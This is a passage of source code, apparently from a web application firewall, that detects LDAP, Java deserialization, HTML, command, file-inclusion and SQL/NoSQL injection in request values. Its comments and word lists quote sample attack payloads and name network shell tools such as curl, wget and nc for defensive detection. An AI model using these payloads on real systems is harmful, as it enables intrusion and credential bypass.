  if ((startsAt(i, "retr ") || startsAt(i, "dele ") || startsAt(i, "list ") || startsAt(i, "top ")) && isDigit(nb(i + (nb(i + 3) == 0x20 ? 4 : 5)))) {
    // "list 3 items" in prose: the digits end the line.
    let j = i + (nb(i + 3) == 0x20 ? 4 : 5);
    while (isDigit(nb(j)) || isBlankByte(nb(j))) j++;
    if (j >= normLen || isBreak(nb(j))) return true;
  }
  // IMAP: a tag (a letter and digits) and a command.
  if (isAlpha(nb(i)) && isDigit(nb(i + 1))) {
    let j = i + 1;
    while (isDigit(nb(j))) j++;
    if (isBlankByte(nb(j))) {
      j++;
      let e = j;
      while (isAlpha(nb(e))) e++;
      for (let k = 0; k < IMAP_COMMANDS.length; k++) if (wordEquals(j, e, unchecked(IMAP_COMMANDS[k]))) return true;
    }
  }
  if (valueStart) {
    let e = i;
    while (isAlpha(nb(e))) e++;
    while (isBlankByte(nb(e))) e++;
    if (e >= normLen || isBreak(nb(e))) {
      let w = i;
      while (isAlpha(nb(w))) w++;
      for (let k = 0; k < MAIL_ALONE.length; k++) if (wordEquals(i, w, unchecked(MAIL_ALONE[k]))) return true;
    }
    // "help postmaster": a command word and one argument on the first line.
    if (startsAt(i, "help ")) return true;
  }
  return false;
}
// "http/1.1 200": a status line.
function statusLineAt(i: i32): bool {
  if (!startsAt(i, "http/") || !isDigit(nb(i + 5))) return false;
  let j = i + 6;
  if (nb(j) == 0x2e && isDigit(nb(j + 1))) j += 2;
  if (!isBlankByte(nb(j))) return false;
  while (isBlankByte(nb(j))) j++;
  return isDigit(nb(j)) && isDigit(nb(j + 1)) && isDigit(nb(j + 2));
}
// The bytes that structure an LDAP filter (RFC 4515) besides its attribute names and values.
@inline function ldapSpecial(c: u32): bool { return c == 0x28 || c == 0x29 || c == 0x26 || c == 0x7c || c == 0x21 || c == 0x3c || c == 0x3e || c == 0x7e || c == 0x3a; }
// An attribute name and its comparison: "uid=", "cn>=", "sn~=" (spaces allowed inside the name, as the
// server tolerates them). The index after '=', or -1.
function ldapComparison(j: i32): i32 {
  const s = j;
  while (j < normLen && !ldapSpecial(nb(j)) && nb(j) != 0x3d && nb(j) != 0x2c) j++;
  if (j == s || j - s > 64) return -1;
  const c = nb(j);
  if (c == 0x3c || c == 0x3e || c == 0x7e) j++;
  return nb(j) == 0x3d ? j + 1 : -1;
}
function ldapBreakout(): bool {
  // The value's first structural byte must be ')' (what comes before is the value the filter expected).
  let i = 0;
  while (i < normLen && !ldapSpecial(nb(i))) i++;
  if (nb(i) != 0x29) return false;
  let j = i + 1;
  while (isBlankByte(nb(j))) j++;
  let c = nb(j);
  // "x))(|…": a further ')' closes the enclosing filter; then '(' must open an operator.
  if (c == 0x29) {
    j++;
    while (isBlankByte(nb(j))) j++;
    if (nb(j) != 0x28) return false;
    j++;
    while (isBlankByte(nb(j))) j++;
    c = nb(j);
    return c == 0x26 || c == 0x7c || c == 0x21;
  }
  if (c == 0x28) {
    j++;
    while (isBlankByte(nb(j))) j++;
    c = nb(j);
    if (c == 0x26 || c == 0x7c || c == 0x21) return true; // )(& )(| )(!
    if (c == 0x28) {                                       // )((|userPassword=*): an operator one level down
      j++;
      while (isBlankByte(nb(j))) j++;
      c = nb(j);
      return (c == 0x26 || c == 0x7c || c == 0x21) && ldapComparison(j + 1) >= 0;
    }
    return ldapComparison(j) >= 0;                        // )(uid=
  }
  if (c == 0x26 || c == 0x7c || c == 0x21) {              // )&(cn=  )|(uid=  )!(sn=
    j++;
    while (isBlankByte(nb(j))) j++;
    return nb(j) == 0x28 && ldapComparison(j + 1) >= 0;
  }
  return false;
}

// ---- Java runtime and deserialization (reported as cmdi) ------------------------------------------------------
// What only an attack on a Java back end puts in a value (CRS 944): the classes that run commands or load code
// (java.lang.Runtime, java.lang.ProcessBuilder, script engines, XMLDecoder, URLClassLoader, Struts' xwork2,
// the xalan TemplatesImpl gadget), commons-collections transformer gadgets named with the runtime, and a
// serialized Java object (magic bytes AC ED 00 05 as base64 "rO0AB" or hex) at the start of the value. Read
// over dotted names, segment by segment: "java" (or javax) and then runtime/processbuilder, or runtime/
// processbuilder with a gadget. Common classes (java.lang.String, java.io.File) inside text are left alone: they
// are in stack traces and documentation; a value that is nothing but one of the classes CRS 944130 lists is a
// gadget probe (javaClassReference, prefilter.ts), also as a query string's part, a cookie or a header.
const JAVA_CLASS_PREFIXES: StaticArray<string> = ["java.lang.runtime", "java.lang.processbuilder", "javax.script.scriptenginemanager",
  "java.beans.xmldecoder", "java.net.urlclassloader", "com.opensymphony.xwork2", "com.sun.org.apache.xalan"];
const JAVA_GADGETS: StaticArray<string> = ["clonetransformer", "forclosure", "instantiatefactory", "instantiatetransformer", "invokertransformer",
  "prototypeclonefactory", "prototypeserializationfactory", "whileclosure", "chainedtransformer", "constanttransformer"];
// The whole value, or, in a value that is itself a query string without blanks (a text/plain body holding
// "test=java.io.File"), each name and each value.
function javaClassValue(): bool {
  if (javaClassReference(normPtr, normLen)) return true;
  if (!(present & P_EQ) || normLen > 512) return false;
  let s = 0;
  for (let i = 0; i <= normLen; i++) {
    const c = i < normLen ? nb(i) : 0x26;
    if (c <= 0x20) return false;
    if (c != 0x26 && c != 0x3d) continue;
    if (i > s && javaClassReference(normPtr + <usize>s, i - s)) return true;
    s = i + 1;
  }
  return false;
}
// A header value worth the Java rules: one dotted name without blanks that is a listed class or has a segment
// starting java, runt, proc or com (java.Runtime, ProcessBuilder.evil.clonetransformer).
export function javaReferenceCandidate(p: usize, n: i32): bool {
  if (n < 8 || n > 256) return false;
  for (let i = 0; i < n; i++) { const c = load<u8>(p + <usize>i); if (c == 0x20 || c == 0x09) return false; }
  return javaClassReference(p, n) || javaSegment(p, n);
}
// A string literal or a list of them right before ".execute(": Groovy runs it as a command.
function literalExecuted(): bool {
  for (let i = indexOf(".execute(", 1); i > 0; i = indexOf(".execute(", i + 9)) {
    const b = nb(i - 1);
    if (b == 0x27 || b == 0x22 || b == 0x5d) return true;
  }
  return false;
}
function javaExecOnNormalized(): bool {
  if (startsAt(0, "ro0ab") || startsAt(0, "aced0005")) { lastRule = "cmdi:java-serialized-object"; return true; }
  if (javaClassValue()) { lastRule = "cmdi:java-class-reference"; return true; }
  // Runtime.getRuntime().exec(…) without the package (scripting engines and OGNL import java.lang); Groovy's
  // 'id'.execute() and ["sh","-c","id"].execute(): a literal command run as a process.
  if ((present & (P_DOT | P_PAREN)) == (P_DOT | P_PAREN)) {
    if (indexOf("getruntime().exec(", 0) >= 0) { lastRule = "cmdi:java-runtime-exec"; return true; }
    if (literalExecuted()) { lastRule = "cmdi:groovy-execute"; return true; }
  }
  // The names are dotted, and each rule needs a name or segment starting java, runt, proc or com.
  if (!(present & P_DOT) || !javaSegment(normPtr, normLen)) return false;
  let i = 0;
  while (i < normLen) {
    // A dotted name: word bytes and dots.
    while (i < normLen && !(isWordByte(nb(i)) || nb(i) == 0x2e)) i++;
    const s = i;
    let dots = 0;
    while (i < normLen && (isWordByte(nb(i)) || nb(i) == 0x2e)) { if (nb(i) == 0x2e) dots++; i++; }
    if (dots == 0) continue;
    for (let k = 0; k < JAVA_CLASS_PREFIXES.length; k++) {
      if (startsAt(s, unchecked(JAVA_CLASS_PREFIXES[k]))) { lastRule = "cmdi:java-class"; return true; }
    }
    let java = false, exec = false, gadget = false;
    let a = s;
    while (a < i) {
      let b = a;
      while (b < i && nb(b) != 0x2e) b++;
      if (wordEquals(a, b, "java") || wordEquals(a, b, "javax")) java = true;
      else if (wordEquals(a, b, "runtime") || wordEquals(a, b, "processbuilder")) exec = true;
      else if (!gadget) for (let g = 0; g < JAVA_GADGETS.length; g++) if (wordEquals(a, b, unchecked(JAVA_GADGETS[g]))) { gadget = true; break; }
      a = b + 1;
    }
    if (exec && (java || gadget)) { lastRule = gadget ? "cmdi:java-gadget" : "cmdi:java-class"; return true; }
  }
  return false;
}

export const ALL_VALUE_CLASSES: u32 = 0x3ff | (1 << <u32>AttackClass.PrototypePollution) | (1 << <u32>AttackClass.Scanner);

// Markup that renders where a page reflects a query parameter (p, n decoded): a heading, marquee, font, title or form
// closed by its own end tag (<h1>Defaced</h1>, <marquee>…</marquee>), or an image from elsewhere (<img
// src="http://…">). Tags compared folded, as packed bytes (no static strings: the tables' memory is at its page);
// the value's first 2 KiB are read. (Inline formatting - <b>, <i>, <a name=…> - is left to the other rules: a search
// box may be sent "<b>bold</b>".)
export function htmlInjection(p: usize, n: i32): bool {
  const end = n < 2048 ? n : 2048;
  for (let i = 0; i + 3 < end; i++) {
    if (load<u8>(p + <usize>i) != 0x3c) continue;
    let e = i + 1;
    while (e < end && (((<u32>load<u8>(p + <usize>e) | 0x20) - 0x61 < 26) || isDigit(<u32>load<u8>(p + <usize>e)))) e++; // (the value is not folded)
    const nl = e - i - 1;
    if (nl < 2 || nl > 8) continue;
    const after = e < end ? <u32>load<u8>(p + <usize>e) : 0;
    if (!(after == 0x3e || after == 0x20 || after == 0x2f || after == 0x09 || after == 0x0a)) continue;
    const name = packedFolded(p, i + 1, nl);
    if (name == 0x676d69 && remoteSource(p, e, end)) return true; // img
    if (!contentTag(name)) continue;
    if ((name == 0x6565757172616d || name == 0x6b6e696c62) && after == 0x3e) return true; // <marquee>, <blink>: nothing legitimate opens them

    // its end tag later: </name> (or </name at the end)
    for (let j = e; j + 2 + nl <= end; j++) {
      if (load<u8>(p + <usize>j) == 0x3c && load<u8>(p + <usize>(j + 1)) == 0x2f && packedFolded(p, j + 2, nl) == name &&
          (j + 2 + nl == end || load<u8>(p + <usize>(j + 2 + nl)) == 0x3e)) return true;
    }
  }
  return false;
}
// Up to 8 bytes from i, each folded (| 0x20), little-endian.
function packedFolded(p: usize, i: i32, n: i32): u64 {
  let v: u64 = 0;
  for (let k = 0; k < n; k++) v |= (<u64>(load<u8>(p + <usize>(i + k)) | 0x20)) << (<u64>(8 * k));
  return v;
}
// h1-h6, marquee, font, center, blink, title, form, button, textarea, style
function contentTag(v: u64): bool {
  if (v >= 0x3168 && v <= 0x3668 && (v & 0xff) == 0x68) return true;
  return v == 0x6565757172616d || v == 0x746e6f66 || v == 0x7265746e6563 || v == 0x6b6e696c62 || v == 0x656c746974 || v == 0x6d726f66 ||
    v == 0x6e6f74747562 || v == 0x6165726174786574 || v == 0x656c797473;
}
// Within the tag from e (to its '>'): src= then quotes or blanks and "http" or "//".
function remoteSource(p: usize, e: i32, end: i32): bool {
  for (let j = e; j + 4 < end && load<u8>(p + <usize>j) != 0x3e; j++) {
    if (packedFolded(p, j, 4) != 0x3d637273) continue; // "src="
    let v = j + 4;
    while (v < end && (load<u8>(p + <usize>v) == 0x22 || load<u8>(p + <usize>v) == 0x27 || load<u8>(p + <usize>v) == 0x20)) v++;
    if (v + 4 <= end && packedFolded(p, v, 4) == 0x70747468) return true; // "http"
    if (v + 2 <= end && load<u8>(p + <usize>v) == 0x2f && load<u8>(p + <usize>(v + 1)) == 0x2f) return true;
  }
  return false;
}

// A parameter or header named for a command (cmd, cmd2, command, exec, execute, shell: a web shell's or a device's
// command channel, ?cmd=id, Cmd: echo 2yQ8mK4vT1) whose value (p, n: decoded) starts with a command a probe runs.
// The value's first word alone decides: the name already says a shell reads it. Actions that share a command's
// name ("set", "type", "dir", "find") are not among them. (The words are compared as packed bytes: a table of
// strings would push the static data past its page.)
export function commandNamedValue(np: usize, nn: i32, p: usize, n: i32): bool {
  if (!commandName(np, nn)) return false;
  let i = 0;
  while (i < n && (load<u8>(p + <usize>i) == 0x20 || load<u8>(p + <usize>i) == 0x09)) i++;
  let e = i;
  while (e < n && ((<u32>load<u8>(p + <usize>e) | 0x20) - 0x61 < 26 || load<u8>(p + <usize>e) == 0x5f)) e++;
  if (e == i || (e < n && load<u8>(p + <usize>e) != 0x20 && load<u8>(p + <usize>e) != 0x09)) return false;
  const len = e - i;
  if (len > 11) return false;
  const v = packedFolded(p, i, len < 8 ? len : 8);
  if (len == 10) return v == 0x6e696d6574737973 && (load<u16>(p + <usize>(i + 8)) | 0x2020) == 0x6f66; // systeminfo
  if (len == 11) return v == 0x656c65727f62736c /* folded: "_" reads 0x7f */ && (load<u16>(p + <usize>(i + 8)) | 0x2020) == 0x7361 && (load<u8>(p + <usize>(i + 10)) | 0x20) == 0x65; // lsb_release
  // id whoami uname hostname ipconfig ifconfig ver pwd ls cat echo ping nslookup curl wget netstat ps env expr sleep net tasklist printenv busybox
  return v == 0x6469 || v == 0x696d616f6877 || v == 0x656d616e75 || v == 0x656d616e74736f68 || v == 0x6769666e6f637069 || v == 0x6769666e6f636669 ||
    v == 0x726576 || v == 0x647770 || v == 0x736c || v == 0x746163 || v == 0x6f686365 || v == 0x676e6970 || v == 0x70756b6f6f6c736e || v == 0x6c727563 ||
    v == 0x74656777 || v == 0x7461747374656e || v == 0x7370 || v == 0x766e65 || v == 0x72707865 || v == 0x7065656c73 || v == 0x74656e || v == 0x7473696c6b736174 ||
    v == 0x766e65746e697270 || v == 0x786f6279737562;
}
function commandName(np: usize, nn: i32): bool {
  let m = nn;
  while (m > 0 && <u32>load<u8>(np + <usize>(m - 1)) - 0x30 < 10) m--; // cmd2, cmd_1
  if (m > 0 && m < nn && load<u8>(np + <usize>(m - 1)) == 0x5f) m--;
  if (m < 3 || m > 7) return false;
  const v = packedFolded(np, 0, m);
  return v == 0x646d63 || v == 0x646e616d6d6f63 || v == 0x63657865 || v == 0x65747563657865 || v == 0x6c6c656873; // cmd command exec execute shell
}

// A parameter named like an include path of PHP applications (mosConfig_absolute_path, _CONF[path], phpbb_root_path,
// GALLERY_BASEDIR, include_path, path[docroot], dir_prefix: the names remote file inclusion goes through, CRS 931110)
// whose value (p, n: decoded) is a remote URL: the application would include it.
// (One NeedleSet, a '|'-separated string: a table of strings would push the static data past its page.)
const INCLUDE_NAME_PARTS = new NeedleSet("absolute_path|root_path|rootpath|root_dir|basedir|base_dir|include_path|includepath|include_dir|docroot|" +
  "document_root|dir_prefix|path_prefix|appserv_root|[path]");
export function remoteIncludeParameter(np: usize, nn: i32, p: usize, n: i32): bool {
  if (nn < 6 || n < 10) return false;
  let s = 0;
  while (s < n && load<u8>(p + <usize>s) == 0x20) s++;
  if (s + 8 > n) return false;
  const sch = packedFolded(p, s, 8);
  // http:// https:// ftp:// ftps://
  if (!((sch & 0xffffffffffffff) == 0x2f2f3a70747468 || sch == 0x2f2f3a7370747468 || (sch & 0xffffffffffff) == 0x2f2f3a707466 || (sch & 0xffffffffffffff) == 0x2f2f3a73707466)) return false;
  return INCLUDE_NAME_PARTS.in(np, nn);
}

// Convenience for tests and the harness: the first class found in a string, or None.
export function firstAttack(bits: u32): AttackClass {
  for (let k: u32 = 0; k < <u32>ATTACK_CLASS_NAMES.length; k++) if (bits & (1 << k)) return <AttackClass>k;
  return AttackClass.None;
}

// The class to report for one raw value: the most specific class found. None when clean.
// (An earlier keyword-rule set used to run after this one when it found nothing; on the labelled corpus it
// added no detection — 591 of 594 attacks found either way, no benign sample flagged — and it cost a quarter of
// the request-header path, so it was retired.)
export function detectAttackAny(p: usize, n: i32): AttackClass {
  return detectRemembering(p, n, ALL_VALUE_CLASSES);
}

// A value a password or secret field holds (raw at p, decoded at d): the attacks a login or key field is sent
// ("' or '1'='1" as the password, the classic bypass; markup, lookups and templates that a log or an admin page
// renders), not those that random passwords' symbols spell by chance. Random strong passwords (8-24 characters
// of the printable set) read as command lines, paths or protocol tricks about 1 in 200, and as SQL through
// their quotes and semicolons: SQL counts here only with one of its words ('or', 'union', 'sleep', …).
const CREDENTIAL_CLASSES: u32 = (1 << <u32>AttackClass.Sqli) | (1 << <u32>AttackClass.Xss) | (1 << <u32>AttackClass.Jndi) |
  (1 << <u32>AttackClass.Ssti) | (1 << <u32>AttackClass.Xxe);
export function detectAttackInCredential(p: usize, n: i32, d: usize, dn: i32, form: bool): AttackClass {
  if (n <= 0) return AttackClass.None;
  const wasForm = formEncoded;
  formEncoded = form;
  // Command substitution ($(curl …), `id`) is read for commands too: a password field that a script passes to a
  // shell (CVE-2023-25717's password=$(curl …)); random passwords spell '$(' or a backtick pair around a command
  // name rarely, and the command rules still decide.
  // The detectors read the value percent-decoded too ("admin%27--" sent inside JSON): so are the signs below
  // (decoded once; -1 when the value held no escape).
  const un = percentDecodedInto(d, dn, credentialScratch, CREDENTIAL_SCRATCH);
  let extra: u32 = commandSubstitution(d, dn) ? 1 << <u32>AttackClass.Cmdi : 0;
  extra |= typedPasswordNever(d, dn);
  if (un > 0) extra |= typedPasswordNever(credentialScratch, un);
  let bits = detectAttacks(p, n, CREDENTIAL_CLASSES | extra);
  formEncoded = wasForm;
  if ((bits & (1 << <u32>AttackClass.Sqli)) != 0 && !credentialSqlSign(d, dn) && (un < 0 || !credentialSqlSign(credentialScratch, un))) {
    bits &= ~(1 << <u32>AttackClass.Sqli);
  }
  return bits != 0 ? mostSpecific(bits) : AttackClass.None;
}
// What no typed password holds, and the classes it opens to the detectors: a line break (a password is one line;
// after one, a header line is response splitting: pwd=any%0D%0ASet-cookie:…) and an SSI directive's "<!--#"
// (<!--#exec cmd="ls /"--> appended to a password: a page that echoes the login runs it).
function typedPasswordNever(d: usize, n: i32): u32 {
  let bits: u32 = 0;
  for (let i = 0; i < n; i++) {
    const c = <u32>load<u8>(d + <usize>i);
    if (c == 0x0a || c == 0x0d) bits |= 1 << <u32>AttackClass.Protocol;
    else if (c == 0x3c && i + 5 <= n && load<u32>(d + <usize>i, 1) == 0x232d2d21) bits |= 1 << <u32>AttackClass.Cmdi; // "<!--#"
  }
  return bits;
}
// "$(" or a backtick, then a command a probe runs (or an absolute /bin, /usr path) and a blank, ')', '`', '$' or
// the end: $(curl x), `id`, $(/bin/wget$IFS…). Symbols around letters ($(g), `word`) are a password's.
const SUBSTITUTED_COMMANDS: StaticArray<string> = ["id", "curl", "wget", "whoami", "uname", "cat", "nc", "ncat", "bash", "sh", "ping", "nslookup", "dig",
  "ls", "echo", "python", "python3", "perl", "php", "sleep", "busybox", "/bin/", "/usr/"];
function commandSubstitution(d: usize, n: i32): bool {
  for (let i = 0; i + 2 < n; i++) {
    const c = <u32>load<u8>(d + <usize>i);
    // Python run by the application (g','');import os;os.system('…')#): a password never spells it.
    if (c == 0x6f && i + 10 <= n && load<u64>(d + <usize>i) == 0x65747379732e736f && load<u16>(d + <usize>i, 8) == 0x286d) return true; // "os.system("
    // A quote closed, then ';' or '|' and a probe's command (';ping -c 2 x.oast.fun;echo ': CVE-2024-7591).
    const sep = (c == 0x27 || c == 0x22) && i + 2 < n && (load<u8>(d + <usize>(i + 1)) == 0x3b || load<u8>(d + <usize>(i + 1)) == 0x7c);
    if (!((c == 0x24 && load<u8>(d + <usize>(i + 1)) == 0x28) || c == 0x60 || sep)) continue;
    let s = i + (c == 0x24 || sep ? 2 : 1);
    while (sep && s < n && load<u8>(d + <usize>s) == 0x20) s++;
    for (let k = 0; k < SUBSTITUTED_COMMANDS.length; k++) {
      const w = unchecked(SUBSTITUTED_COMMANDS[k]);
      const m = w.length;
      if (s + m > n) continue;
      let same = true;
      for (let j = 0; j < m && same; j++) same = <u32>load<u8>(d + <usize>(s + j)) == <u32>w.charCodeAt(j); // as shells spell them
      if (!same) continue;
      if (w.charCodeAt(m - 1) == 0x2f) return true;
      const a = s + m < n ? <u32>load<u8>(d + <usize>(s + m)) : 0;
      // Names of two or three letters (id, sh, nc, cat) only closed at once: $(id), `id` (random symbols spell "`sh)" now and then);
      // after a quote and a separator, only names of four letters or more with a blank after them ('; ping -c).
      if (sep) { if (m >= 4 && a == 0x20) return true; continue; }
      if (m <= 3 ? (a == 0x29 && c == 0x24) || (a == 0x60 && c == 0x60) : s + m == n || a == 0x20 || a == 0x29 || a == 0x60 || a == 0x24 || a == 0x09) return true;
    }
  }
  return false;
}
// What makes SQL of a credential the detectors flag: a SQL word, a query operator or comment, a concatenation
// sandwich, JavaScript run by MongoDB's $where.
function credentialSqlSign(d: usize, n: i32): bool {
  return hasSqlWord(d, n) || queryOperatorOrComment(d, n) || concatenationOrWhereCode(d, n);
}
// A credential percent-decoded (up to three rounds: %2527) into `out`; its length, or -1 when it held no escape
// or does not fit. (Each round shrinks a value that held an escape, and may decode in place.)
const CREDENTIAL_SCRATCH: i32 = 512;
const credentialScratch = memory.data(CREDENTIAL_SCRATCH);
function percentDecodedInto(p: usize, n: i32, out: usize, cap: i32): i32 {
  if (n > cap) return -1;
  let len = percentDecodeInto(p, n, out, cap, false);
  if (len == n) return -1;
  for (let round = 1; round < 3; round++) {
    const m = percentDecodeInto(out, len, out, cap, false);
    if (m == len) break;
    len = m;
  }
  return len;
}
// Percent-decodes (p, n) into d (capacity cap), '+' as a space when `plusAsSpace`; returns the length. d may be
// p: the writes never pass the reads.
export function percentDecodeInto(p: usize, n: i32, d: usize, cap: i32, plusAsSpace: bool): i32 {
  let w = 0;
  for (let i = 0; i < n && w < cap; i++) {
    let c = <u32>load<u8>(p + <usize>i);
    if (c == 0x25 && i + 2 < n && isHex(<u32>load<u8>(p + <usize>(i + 1))) && isHex(<u32>load<u8>(p + <usize>(i + 2)))) {
      c = (hexVal(<u32>load<u8>(p + <usize>(i + 1))) << 4) | hexVal(<u32>load<u8>(p + <usize>(i + 2)));
      i += 2;
    } else if (c == 0x2b && plusAsSpace) c = 0x20;
    store<u8>(d + <usize>w, <u8>c);
    w++;
  }
  return w;
}
// '||x||' (a string built in the query: Oracle's and PostgreSQL's concatenation around a call), and MongoDB
// $where code after a quote: "' && this.password.match(/.*/)//", "';return 'a'=='a' && ''=='". Random passwords
// spell neither (a quote, two bars and another pair of bars with a quote; "this." or "return" after the quote).
function concatenationOrWhereCode(d: usize, n: i32): bool {
  for (let i = 0; i + 3 < n; i++) {
    const c = <u32>load<u8>(d + <usize>i);
    if (c != 0x27 && c != 0x22) continue;
    let k = i + 1;
    while (k < n && <u32>load<u8>(d + <usize>k) == 0x20) k++;
    if (k + 1 < n && load<u8>(d + <usize>k) == 0x7c && load<u8>(d + <usize>(k + 1)) == 0x7c) {
      for (let j = k + 2; j + 2 < n; j++) if (load<u8>(d + <usize>j) == 0x7c && load<u8>(d + <usize>(j + 1)) == 0x7c && sqlQuoteAfterBlanks(d, j + 2, n)) return true;
    }
    if (k + 1 < n && ((load<u8>(d + <usize>k) == 0x26 && load<u8>(d + <usize>(k + 1)) == 0x26) || (load<u8>(d + <usize>k) == 0x7c && load<u8>(d + <usize>(k + 1)) == 0x7c))) {
      k += 2;
      while (k < n && <u32>load<u8>(d + <usize>k) == 0x20) k++;
      if (k + 5 <= n && (<u32>load<u32>(d + <usize>k) | 0x20202020) == 0x73696874 && load<u8>(d + <usize>(k + 4)) == 0x2e) return true; // this.
    }
    if (k < n && load<u8>(d + <usize>k) == 0x3b) {
      k++;
      while (k < n && <u32>load<u8>(d + <usize>k) == 0x20) k++;
      if (k + 7 <= n && (<u32>load<u32>(d + <usize>k) | 0x20202020) == 0x75746572 && (<u32>load<u16>(d + <usize>(k + 4)) | 0x2020) == 0x6e72 && load<u8>(d + <usize>(k + 6)) == 0x20) return true; // return
    }
  }
  return false;
}
function sqlQuoteAfterBlanks(d: usize, k: i32, n: i32): bool {
  while (k < n && <u32>load<u8>(d + <usize>k) == 0x20) k++;
  return k < n && (load<u8>(d + <usize>k) == 0x27 || load<u8>(d + <usize>k) == 0x22);
}
// A query operator ($ne, $gt, $where: NoSQL's bypass) or a quote closed by a comment ("' --", "admin'-- ",
// "admin' #", "'/*"), which random symbols spell rarely: '--' and '#' must be followed by a blank or the end,
// "/*" must end the value.
function queryOperatorOrComment(d: usize, n: i32): bool {
  for (let i = 0; i + 2 < n; i++) {
    const c = <u32>load<u8>(d + <usize>i);
    if (c == 0x24 && isAlpha(<u32>load<u8>(d + <usize>(i + 1)) | 0x20) && isAlpha(<u32>load<u8>(d + <usize>(i + 2)) | 0x20)) {
      const w = <u32>load<u16>(d + <usize>(i + 1)) | 0x2020;
      if (w == 0x656e || w == 0x7467 || w == 0x746c || w == 0x6e69 || w == 0x6877 || w == 0x6572 || w == 0x786e || w == 0x726f) return true; // ne gt lt in wh(ere) re(gex) nx? or
    }
    if ((c == 0x27 || c == 0x22)) {
      let k = i + 1;
      while (k < n && <u32>load<u8>(d + <usize>k) == 0x20) k++;
      // ("'=0--+": the '+' a URL's blank, at the end)
      if (k + 1 < n && load<u8>(d + <usize>k) == 0x2d && load<u8>(d + <usize>(k + 1)) == 0x2d && (k + 2 >= n || <u32>load<u8>(d + <usize>(k + 2)) <= 0x20 || (k + 3 == n && load<u8>(d + <usize>(k + 2)) == 0x2b))) return true;
      // ("admin' #", "'/*": MySQL's other comments, at the end)
      if (k < n && load<u8>(d + <usize>k) == 0x23 && (k + 1 >= n || <u32>load<u8>(d + <usize>(k + 1)) <= 0x20)) return true;
      if (k + 1 < n && load<u8>(d + <usize>k) == 0x2f && load<u8>(d + <usize>(k + 1)) == 0x2a && k + 2 >= n) return true;
    }
  }
  return false;
}

// ---- Values found clean, remembered -------------------------------------------------------------------------
// The detectors are a function of a value's bytes, the classes asked for and the form mode. Values repeat: a
// client's User-Agent, cookies and Referer on every request, time zones, enum-like strings and URLs in every
// record. A value found clean is remembered by its exact bytes (up to CLEAN_CAP; 64 entries, direct-mapped by a
// hash of the bytes, the last one wins): the next time it costs a hash and a compare instead of the detectors.
// Only the same bytes can match an entry; a value with a finding is not remembered (it needs its rule name).
const CLEAN_CAP: i32 = 384;
const CLEAN_SLOT_BITS: u64 = 6;
const CLEAN_SLOTS: i32 = 1 << <i32>CLEAN_SLOT_BITS;
const CLEAN_ENTRY: usize = 16 + <usize>CLEAN_CAP; // length u32, key u32, hash u64, bytes
const cleanValues = memory.data(CLEAN_SLOTS * (16 + CLEAN_CAP)); // zeroed: length 0 matches no value
export function valueHash(p: usize, n: i32): u64 {
  let h: u64 = <u64>n * 0x9e3779b97f4a7c15;
  let i = 0;
  for (; i + 8 <= n; i += 8) h = rotl<u64>((h ^ load<u64>(p + <usize>i)) * 0xff51afd7ed558ccd, 29);
  let t: u64 = 0;
  for (let k: u64 = 0; i < n; i++, k += 8) t |= (<u64>load<u8>(p + <usize>i)) << k;
  h = (h ^ t) * 0xc4ceb9fe1a85ec53;
  return h ^ (h >> 32);
}
// Whether n bytes at a and at b are the same: 8 at a time, the last 8 overlapping (memory.compare goes byte
// by byte when the two are not aligned alike, as a value and its remembered copy mostly are not).
export function sameBytes(a: usize, b: usize, n: i32): bool {
  if (n < 8) {
    for (let i = 0; i < n; i++) if (load<u8>(a + <usize>i) != load<u8>(b + <usize>i)) return false;
    return true;
  }
  for (let i = 0; i + 8 <= n; i += 8) if (load<u64>(a + <usize>i) != load<u64>(b + <usize>i)) return false;
  return load<u64>(a + <usize>(n - 8)) == load<u64>(b + <usize>(n - 8));
}
function detectRemembering(p: usize, n: i32, classes: u32): AttackClass {
  lastRule = "";
  if (n <= 0) return AttackClass.None;
  if (!mayHoldAttack(p, n)) { // base64 has none of the bytes; "0x2e0x2e0x2fetc0x2fpasswd" neither
    const spelled = detectInSpelledSeparators(p, n, classes);
    return spelled != AttackClass.None ? spelled : detectInBase64Text(p, n, classes);
  }
  if (n > CLEAN_CAP) {
    const bits = detectAttacksMayHold(p, n, classes);
    if (bits != 0) return mostSpecific(bits);
    const stripped = detectInTagStripped(classes);
    if (stripped != AttackClass.None) return stripped;
    const spelled = detectInSpelledSeparators(p, n, classes);
    return spelled != AttackClass.None ? spelled : detectInBase64Text(p, n, classes);
  }
  const key = classes | (formEncoded ? 0x80000000 : 0);
  const hash = valueHash(p, n);
  const e = cleanValues + <usize>(hash >> (64 - CLEAN_SLOT_BITS)) * CLEAN_ENTRY;
  if (load<u32>(e) == <u32>n && load<u32>(e, 4) == key && load<u64>(e, 8) == hash && sameBytes(e + 16, p, n)) return AttackClass.None;
  const bits = detectAttacksMayHold(p, n, classes);
  if (bits != 0) return mostSpecific(bits);
  const stripped = detectInTagStripped(classes);
  if (stripped != AttackClass.None) return stripped;
  const spelled = detectInSpelledSeparators(p, n, classes);
  if (spelled != AttackClass.None) return spelled;
  // ('+' and '/' are base64 too.)
  const decoded = detectInBase64Text(p, n, classes);
  if (decoded != AttackClass.None) return decoded;
  const dataUri = detectInDataUriBase64(p, n, classes);
  if (dataUri != AttackClass.None) return dataUri;
  store<u32>(e, <u32>n); store<u32>(e, key, 4); store<u64>(e, hash, 8);
  memory.copy(e + 16, p, <usize>n);
  return AttackClass.None;
}

// A value that is base64-encoded text, read decoded (see base64text.ts): the first class found, or None.
// Decoded once: base64 inside the decoded text is not decoded again.
// The decoded text's buffer is taken from the heap on first use (static data counts against the module's
// initial memory).
const B64_TEXT_CAP: i32 = NORM_CAP * 3 / 4;
let b64Text: usize = 0;
function detectInBase64Text(p: usize, n: i32, classes: u32): AttackClass {
  if (b64Text == 0) b64Text = heap.alloc(<usize>(B64_TEXT_CAP + NORM_SLACK));
  let m = base64TextInto(p, n, b64Text, B64_TEXT_CAP);
  // Hex digits are base64 too, and decode to bytes that are no text: a value all hex is read as hex instead
  // (an application that hex-decodes its parameter, commix's hexencode).
  if (m <= 0) m = hexTextInto(p, n, b64Text, B64_TEXT_CAP);
  if (m <= 0 || !mayHoldAttack(b64Text, m)) return AttackClass.None;
  const wasForm = formEncoded;
  formEncoded = false; // the decoded bytes are the value itself: '+' is '+'
  const bits = detectAttacksMayHold(b64Text, m, classes);
  const found = bits != 0 ? mostSpecific(bits) : detectInTagStripped(classes);
  formEncoded = wasForm;
  return found;
}

// A data: URI's base64 payload inside a value (<link rel=import href=data:q;base64,PHNjcmlwdD4…>,
// <object data="data:text/html;base64,…">): the run of base64 after "base64," (or "base64%2C") read decoded, like
// a value that is base64 text as a whole.
// (Found from the '4' of "base64", 16 bytes at a time: most values hold none.)
